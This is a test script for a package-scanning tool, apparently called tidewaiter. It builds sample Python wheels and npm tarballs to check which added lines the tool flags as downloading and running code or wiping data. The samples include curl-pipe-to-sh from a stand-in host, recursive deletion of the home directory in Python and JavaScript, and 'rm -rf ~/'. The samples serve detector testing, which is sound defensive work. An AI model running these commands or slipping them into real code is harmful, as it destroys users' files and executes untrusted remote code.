#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What `tidewaiter diff` and `capabilities` make of single lines that a release gains: what acts, what only looks like it, and when."""
import argparse
import json
import os
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import test_diff  # noqa: E402
from test_diff import Program, check, tarball, wheel  # noqa: E402

PYTHON = "def add(a, b):\n    return a + b\n"


def uses_of(tw, tmp, code, name="reef/__init__.py"):
    if name.endswith(".py"):
        path = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "", name: code})
    else:
        path = tarball(tmp / "reef-1.0.tgz", "package", {"package.json": json.dumps({"name": "reef", "version": "1.0.0", "main": name}), name: code})
    return {(u["id"], u["trigger"]) for u in json.loads(tw("capabilities", "--format", "json", path)[1])["capabilities"]}


# code, capability and trigger, is it there
ACTS = [
    ('import subprocess\nsubprocess.call(["curl", "-o", "/tmp/data.json", "https://d.example/data.json"])\n', "exec.downloaded import", False),
    ('import os\nos.system("curl -o /tmp/data.json https://d.example/data.json")\n', "exec.downloaded import", False),
    ('import os\nos.system("curl -o /tmp/data.json https://d.example/d; sh /tmp/data.json")\n', "exec.downloaded import", True),
    ('import os\nos.system("curl https://d.example/d | sh")\n', "exec.downloaded import", True),
    ('import subprocess\nsubprocess.call(["curl", "-o", "/tmp/d", "https://d.example/d"])\nsubprocess.call(["sh", "/tmp/d"])\n', "exec.downloaded import", True),
    ('import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n', "impact.wipe import", True),
    ('import os, shutil\nshutil.rmtree(os.path.expanduser("~/.cache/reef"))\n', "impact.wipe import", False),
    ('import os, shutil\nshutil.rmtree(os.environ["HOME"])\n', "impact.wipe import", True),
]
JS_ACTS = [
    ('require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });\n', "impact.wipe import", True),
    ('const fs = require("fs"), os = require("os"), path = require("path");\nfs.rmSync(path.join(os.homedir(), ".cache"), { recursive: true });\n', "impact.wipe import", False),
]


def acts(tw, tmp):
    for name, rows in (("reef/__init__.py", ACTS), ("index.js", JS_ACTS)):
        for code, what, there in rows:
            found = uses_of(tw, tmp, code, name)
            check((tuple(what.split()) in found) == there, f"{what}: {there}", code, sorted(found))


def sentence(tw, tmp):
    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": 'import os\nos.system("rm -rf ~/ || true")\n'})
    out = tw("scan", "--no-cache", w)[1]
    check("(rm -rf ~/ || true)." in out and "MALICIOUS" in out, "the sentence of a wiper", out)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", required=True)
    path = os.path.abspath(ap.parse_args().tidewaiter)
    with tempfile.TemporaryDirectory() as folder:
        tw, tmp = Program(path, Path(folder)), Path(folder)
        for test in (acts, sentence):
            test(tw, tmp)
    print(f"{test_diff.passed} passed, {test_diff.failed} failed")
    return test_diff.failed != 0


if __name__ == "__main__":
    sys.exit(main())
